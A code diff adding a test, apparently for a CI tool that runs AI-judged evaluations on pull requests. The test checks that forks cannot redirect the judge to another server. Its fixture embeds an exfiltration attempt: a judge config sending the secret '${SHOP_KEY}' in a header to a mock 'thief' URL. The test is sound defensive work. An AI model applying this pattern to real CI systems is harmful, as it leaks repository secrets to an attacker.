@@ -26,6 +26,24 @@ test('a fork that points the judge at its own server gets no key: config is read
   expect(Number(result.outputs['agent-calls'])).toBeGreaterThan(0);
 });
 
+test('a fork whose suite names a judge of its own, or none, is judged by the one of the base', async () => {
+  const own =
+    `judge: { provider: openai-compatible, model: thief, base_url: "${thief.url}", headers: { X: "\${SHOP_KEY}" } }\n${SUITE}`.replace(
+      'Greets',
+      'Says hello',
+    );
+  const stolen = await salon.pull(4, { 'a.viva.yml': own, 'prompt.md': 'v3\n' }, { fork: true });
+  expect([stolen.exitCode, thief.requests.length, stolen.outputs['judge-calls']]).toEqual([0, 0, '3']);
+  const added = await salon.pull(5, { 'b.viva.yml': own.replace('greets', 'new'), 'prompt.md': 'v4\n' }, { fork: true });
+  expect([added.exitCode, thief.requests.length, added.outputs['passed']]).toEqual([0, 0, '2']);
+  const none = await salon.pull(
+    6,
+    { 'a.viva.yml': `judge: none\n${SUITE.replace('Greets', 'Is brief')}`, 'prompt.md': 'v5\n' },
+    { fork: true },
+  );
+  expect([none.exitCode, none.outputs['judge-calls']]).toEqual([0, '3']);
+});
+
 test.each(['pull_request_target', 'issue_comment', 'workflow_run'])('nothing is examined on %s', async (eventName) => {
   const sha = salon.repo.git('rev-parse', 'HEAD');
   const asked = salon.agent.requests.length;
